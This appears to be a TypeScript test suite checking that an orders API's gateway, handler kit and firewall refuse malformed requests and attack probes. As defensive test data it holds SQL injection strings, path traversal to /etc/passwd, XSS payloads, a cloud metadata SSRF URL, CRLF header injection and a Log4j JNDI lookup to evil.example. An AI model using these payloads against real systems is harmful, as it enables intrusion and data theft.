import { useTarget, withoutHandler, withoutInvocation } from "./target";

const target = useTarget();
const json = { "content-type": "application/json" };
const withToken = async (headers = {}) => ({ ...(await target.bearer()), ...headers });

/** Each with a good token: only what is sent is wrong. */
describe("S2.32 S3.7 S3.28 what breaks the contract", () => {
  it.each<[string, string]>([
    ["no body", ""],
    ["no JSON", "{"],
    ["a list", "[]"],
    ["a missing field", "{}"],
    ["another type", '{"id":1}'],
    ["too long a text", JSON.stringify({ id: "1", note: "n".repeat(201) })],
  ])("%s: refused with 400 by the gateway, and no function runs", async (_, body) => {
    const headers = await withToken(json);
    const answer = await withoutInvocation(target, () => target.call("POST /orders", headers, body));
    expect([answer.status, answer.headers.get("content-type")]).toEqual([400, "application/problem+json"]);
  });

  // API Gateway checks JSON only, and takes 10 MB: these are refused by the handler kit, before any handler.
  it.each<[string, Record<string, string>, string | Buffer, number]>([
    ["a field more", json, '{"id":"1","admin":true}', 400],
    ["a prototype in JSON", json, '{"id":"1","__proto__":{"admin":true}}', 400],
    ["text", { "content-type": "text/plain" }, '{"id":"1"}', 415],
    ["a form", { "content-type": "application/x-www-form-urlencoded" }, "id=1", 415],
    ["XML", { "content-type": "application/xml" }, "<id>1</id>", 415],
    ["JSON in another charset", { "content-type": "application/json; charset=utf-16" }, '{"id":"1"}', 415],
    ["more than the contract takes", json, JSON.stringify({ id: "1", note: " ".repeat(20_000) }), 400],
  ])("%s: refused, and no handler runs", async (_, headers, body, status) => {
    const sent = await withToken(headers);
    const answer = await withoutHandler(target, () => target.call("POST /orders", sent, body));
    expect([answer.status, answer.headers.get("content-type")]).toEqual([status, "application/problem+json"]);
  });

  it.each(["%00", "..%2f1", "1%0d%0aset-cookie:a=b", "a".repeat(37)])(
    "GET /orders/%s: refused with 400, and no handler runs",
    async (id) => {
      const sent = await withToken();
      const answer = await withoutHandler(target, () => target.call(`GET /orders/${id}`, sent));
      expect([answer.status, answer.headers.get("set-cookie")]).toEqual([400, null]);
    },
  );

  it("a body over the contract's size: refused with 413, and no handler runs", async () => {
    const sent = await withToken(json);
    const body = `{"id":"1"}${" ".repeat(16_384)}`;
    const answer = await withoutHandler(target, () => target.call("POST /orders", sent, body));
    expect([answer.status, JSON.parse(answer.text).type]).toEqual([413, "urn:portico:problem:payload-too-large"]);
  });

  it("a body over the gateway's 10 MB: refused with 413, and no function runs", async () => {
    const sent = await withToken(json);
    const body = `{"id":"1"}${" ".repeat(10 * 1024 * 1024)}`;
    const answer = await withoutInvocation(target, () => target.call("POST /orders", sent, body));
    expect(answer.status).toBe(413);
  });

  it.each([
    ["PUT /orders/1", 405],
    ["DELETE /orders/1", 405],
    ["GET /orders", 405],
    ["GET /admin", 404],
    ["GET /.env", 403], // by the firewall,
    ["GET /orders/1/../../admin", 404],
  ])("%s: refused with %d, and no function runs", async (route, status) => {
    const sent = await withToken();
    const answer = await withoutInvocation(target, () => target.call(route, sent));
    expect(answer.status).toBe(status);
  });

  it("a header that names another method changes nothing", async () => {
    const sent = await withToken({ "x-http-method-override": "DELETE", "x-method-override": "POST" });
    expect(JSON.parse((await target.call("GET /orders/1", sent)).text)).toEqual({ reached: "GET /orders/{id}" });
  });
});

/** Each with a good token and a good form: only the firewall stands against it. */
describe("S2.32 S3.27 S5.16 probes", () => {
  const search = (text: string) => `GET /orders/1?search=${encodeURIComponent(text)}`;
  it.each<[string, string]>([
    ["SQL: always true", "1' OR '1'='1"],
    ["SQL: a union", "1 UNION SELECT username, password FROM users--"],
    ["SQL: a second statement", "1; DROP TABLE orders; --"],
    ["SQL: by time", "1' AND SLEEP(5)--"],
    ["traversal", "../../../../etc/passwd"],
    ["traversal of Windows", "..\\..\\..\\windows\\win.ini"],
    ["a file of the system", "/etc/passwd"],
    ["a script", "<script>alert(1)</script>"],
    ["an image that is a script", "<img src=x onerror=alert(1)>"],
    ["the metadata of a machine", "http://169.254.169.254/latest/meta-data/iam"],
    ["a lookup (Log4j)", `$${"{jndi:ldap://evil.example/a}"}`],
  ])("%s: refused with 403, and no function runs", async (_, text) => {
    const sent = await withToken();
    const inQuery = await withoutInvocation(target, () => target.call(search(text), sent));
    expect(inQuery.status).toBe(403);
    const body = JSON.stringify({ id: "1", note: text });
    const inBody = await withoutInvocation(target, () => target.call("POST /orders", { ...sent, ...json }, body));
    expect(inBody.status).toBe(403);
  });

  it("are no danger to what people write", async () => {
    const sent = await withToken();
    for (const text of ["O'Brien & Sons", "select the best union of both", "2 < 3 and 3 > 2", "a/b/../c"])
      expect([text, (await target.call(search(text), sent)).status]).toEqual([text, 200]);
  });
});
